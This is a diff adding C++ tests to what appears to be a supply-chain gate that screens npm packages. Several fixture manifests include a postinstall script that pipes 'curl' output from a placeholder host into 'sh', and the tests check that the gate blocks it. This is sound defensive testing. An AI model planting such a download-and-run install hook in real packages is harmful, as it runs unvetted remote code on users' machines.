@@ -5,6 +5,7 @@
 #include "archive/pack.h"
 #include "gate/open_archive.h"
 #include "gate/testing.h"
+#include "model/default_registry.h"
 
 namespace cordon::gate {
 namespace {
@@ -137,6 +138,60 @@ TEST_F(PeekExaminerTest, HoldsCodeThatRunsAtInstallationAndIsTooDeepToRead) {
   EXPECT_EQ(net::status_of(get("/flat/-/flat-1.0.0.tgz")), 200u);
 }
 
+TEST_F(PeekExaminerTest, AWaiverOfOneFindingHidesNoOther) {
+  const std::string runs = "\"scripts\":{\"postinstall\":\"curl -s https://x.example.invalid/a | sh\"}";
+  publish("both", {{"1.0.0", 90 * kDay,
+                    packed(manifest("both", "1.0.0", runs),
+                           {{"npm-shrinkwrap.json",
+                             "{\"packages\":{\"a\":{\"resolved\":\"https://elsewhere.example.test/a.tgz\"}}}"}}),
+                    runs + ","}});
+  open_with_worker();
+  const auto ask = [&] { return get("/both/-/both-1.0.0.tgz"); };
+  EXPECT_NE(ask().find("shrinkwrap-address"), std::string::npos);
+  gate_.reset();
+  const std::int64_t id = Ledger::open(folder_ / "ledger.db")
+                              ->add_waiver({0, "both", "", "shrinkwrap-address", "me", "why", "2999-01-01"})
+                              .value();
+  open_with_worker();
+  const std::string other = ask();
+  EXPECT_EQ(net::status_of(other), 403u);
+  EXPECT_NE(other.find("inspect.download-and-run"), std::string::npos) << other;
+  gate_.reset();
+  EXPECT_TRUE(Ledger::open(folder_ / "ledger.db")->remove_waiver(id).value());
+  EXPECT_TRUE(Ledger::open(folder_ / "ledger.db")
+                  ->add_waiver({0, "both", "", "inspect.download-and-run", "me", "why", "2999-01-01"}));
+  open_with_worker();
+  EXPECT_NE(ask().find("shrinkwrap-address"), std::string::npos);
+}
+
+TEST_F(PeekExaminerTest, ADependencyThatCannotBeHadDoesNotAcquitWhoAsksForIt) {
+  options_.on_timeout = OnTimeout::allow;
+  peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
+  const std::string runs =
+      "\"scripts\":{\"postinstall\":\"curl -s https://x.example.invalid/a | sh\"},\"dependencies\":{\"dep\":\"1\"}";
+  publish("bad", {{"1.0.0", 90 * kDay, packed(manifest("bad", "1.0.0"), {{"index.js", "1;"}}), ""},
+                  {"1.0.1", 80 * kDay, packed(manifest("bad", "1.0.1", runs), {{"index.js", "1;"}}), runs + ","}});
+  fetcher_.answers[std::string(kBase) + "dep"] = {{}, {}, ErrorCode::unavailable, true};
+  open_with_worker();
+  EXPECT_EQ(net::status_of(get("/bad/-/bad-1.0.1.tgz")), 403u);
+}
+
+TEST_F(PeekExaminerTest, AYoungMajorReleaseIsWhatAMinorOneFollows) {
+  publish_carrier("exports.a = 1;");
+  const std::string asks = "\"dependencies\":{\"stowaway\":\"^4.2.1\"}";
+  publish("major", {{"1.14.0", 90 * kDay, packed(manifest("major", "1.14.0"), {{"index.js", "1;"}}), ""},
+                    {"2.0.0", kDay, packed(manifest("major", "2.0.0"), {{"index.js", "2;"}}), ""},
+                    {"2.0.1", kHour, packed(manifest("major", "2.0.1", asks), {{"index.js", "3;"}}), asks + ","}});
+  const std::string before = "\"dependencies\":{\"lod\":\"1.0.0\"}",
+                    after = "\"dependencies\":{\"lod\":\"npm:stowaway@4\"}";
+  publish("renamed",
+          {{"1.0.0", 90 * kDay, packed(manifest("renamed", "1.0.0", before), {{"index.js", "1;"}}), before + ","},
+           {"1.0.1", kHour, packed(manifest("renamed", "1.0.1", after), {{"index.js", "2;"}}), after + ","}});
+  open_with_worker();
+  EXPECT_EQ(net::status_of(get("/major/-/major-2.0.1.tgz")), 403u);
+  EXPECT_EQ(net::status_of(get("/renamed/-/renamed-1.0.1.tgz")), 403u);
+}
+
 TEST_F(PeekExaminerTest, ARegistryThatFailsOnceClearsNothing) {
   publish_carrier("exports.a = 1;");
   const auto right = fetcher_.answers[std::string(kBase) + "stowaway"];
@@ -174,13 +229,16 @@ TEST_F(PeekExaminerTest, HoldsALockfileInsideThatLeadsPastTheRegistry) {
           more}});
   };
   with("foreign", "https://elsewhere.example.test/a.tgz", "\"_hasShrinkwrap\":true,");
-  with("own", std::string(kBase) + "a/-/a-1.0.0.tgz", "\"_hasShrinkwrap\":true,");
+  // npm asks the gate for what is the public registry's, and for nothing else.
+  with("usual", std::string(model::default_registry("npm")) + "a/-/a-1.0.0.tgz", "\"_hasShrinkwrap\":true,");
+  with("mirror", std::string(kBase) + "a/-/a-1.0.0.tgz", "\"_hasShrinkwrap\":true,");
   with("denied", "https://elsewhere.example.test/a.tgz", "\"_hasShrinkwrap\":false,");
   open_with_worker();
   const std::string answer = get("/foreign/-/foreign-1.0.0.tgz");
   EXPECT_EQ(net::status_of(answer), 403u);
   EXPECT_NE(answer.find("shrinkwrap-address"), std::string::npos) << answer;
-  EXPECT_EQ(net::status_of(get("/own/-/own-1.0.0.tgz")), 200u);
+  EXPECT_EQ(net::status_of(get("/usual/-/usual-1.0.0.tgz")), 200u);
+  EXPECT_EQ(net::status_of(get("/mirror/-/mirror-1.0.0.tgz")), 403u);
   EXPECT_EQ(net::status_of(get("/denied/-/denied-1.0.0.tgz")), 200u);
 }
 
